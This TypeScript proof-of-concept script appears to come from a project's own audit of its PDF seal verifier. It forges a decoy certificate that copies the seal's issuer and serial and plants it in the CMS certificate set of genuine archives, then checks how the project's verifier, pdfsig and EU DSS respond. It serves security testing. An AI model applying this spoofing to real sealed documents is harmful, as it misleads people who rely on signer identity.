// S3: the seal's signer certificate is the *first* certificate of the CMS's certificate set whose issuer and serial
// match the SignerInfo's sid (src/pki/cms.ts findSignerCertificate, `certs.find`). The certificate set is outside
// what the seal signs, and /Contents outside the /ByteRange: anyone can put a certificate of their own making with
// the seal's issuer name and serial number (any key, any signature) before the seal's own certificate, in any
// genuine archive, without a key and without changing a byte the seal covers.
//   npx tsx scripts/attack-s6/signer-decoy.ts [decoy|last|honest]
// decoy: samples/valid/archive.pdf (genuine) with the decoy first in the seal CMS's certificate set. last: the decoy
// after the seal's own certificate. honest: the same rewrite of /Contents, nothing added (the rewrite changes nothing).
// real, real-honest: the same on the broker's real archive (test/fixtures/real/broker-example), --at its sealing time
// 2025-12-08T09:35:10Z with its own trust directory. DSS=1 adds EU DSS (now, or at that time).
import { generateRsaKey } from "../generator/keys.js";
import { readFileSync } from "node:fs";
import { extensions, issueCertificate } from "../generator/pki.js";
import { decodeSignedData, findSignerCertificate } from "../../src/pki/cms.js";
import { pkiSession } from "../../src/pki/session.js";
import { OIDS } from "../generator/der.js";
import { dss, pki, sample, save, sealGap, show, tool, verify, withSealContents, work } from "../attack36/lib.js";
import { withCmsCertificates } from "./lib.js";

const mode = process.argv[2] ?? "decoy";
if (!["decoy", "last", "honest", "real", "real-honest"].includes(mode)) throw new Error(`mode: decoy|last|honest|real|real-honest, not ${mode}`);
const real = mode.startsWith("real");
const REAL = "test/fixtures/real/broker-example";
const P = pki();
const base = real ? new Uint8Array(readFileSync(`${REAL}/archive.pdf`)) : sample("valid/archive.pdf");
const { der } = sealGap(base);
// The seal certificate as the CMS carries it: its issuer name and serial number are what the decoy copies.
const sealCms = decodeSignedData(der, "the seal", pkiSession(), true);
const sealCert = findSignerCertificate(sealCms.signedData.signerInfos[0]!, sealCms.certificates)!;
const key = generateRsaKey(2048);
// The seal's issuer name and serial number, a key and a signature of one's own.
const decoy = issueCertificate({
  subject: [
    [OIDS.country, "DK"],
    [OIDS.commonName, "Nets"],
  ],
  subjectKey: key,
  issuer: { ...P.sealRoot, key, cert: { subject: sealCert.issuer } as typeof P.sealRoot.cert },
  notBefore: new Date("2020-01-01T00:00:00Z"),
  notAfter: new Date("2125-01-01T00:00:00Z"),
  serial: new Uint8Array(sealCert.serialNumber.valueBlock.valueHexView),
  extensions: [extensions.keyUsage("digitalSignature", "nonRepudiation")],
});
const cms = mode.endsWith("honest") ? withCmsCertificates(der, []) : withCmsCertificates(der, [decoy], mode === "last");
const file = save(work(`s6-s3-${mode}`), "archive.pdf", withSealContents(base, cms));
console.log(
  `wrote ${file} (${mode}): samples/valid/archive.pdf, the seal's /Contents rewritten${mode === "honest" ? "" : ` with a decoy certificate (the seal's issuer and serial, another key) ${mode === "last" ? "last" : "first"} in the CMS's certificate set`}`,
);
show(mode, real ? verify(file, ["--at", "2025-12-08T09:35:10Z"], "", `${REAL}/trust`) : verify(file));
console.log(
  "== pdfsig:",
  tool("pdfsig", [file])
    .split("\n")
    .filter((l) => /Signature Validation|Signer Certificate Common Name|total document/i.test(l))
    .join(" | "),
);
dss(file, real ? "2025-12-08T09:35:10Z" : undefined, real ? `${REAL}/trust` : undefined);
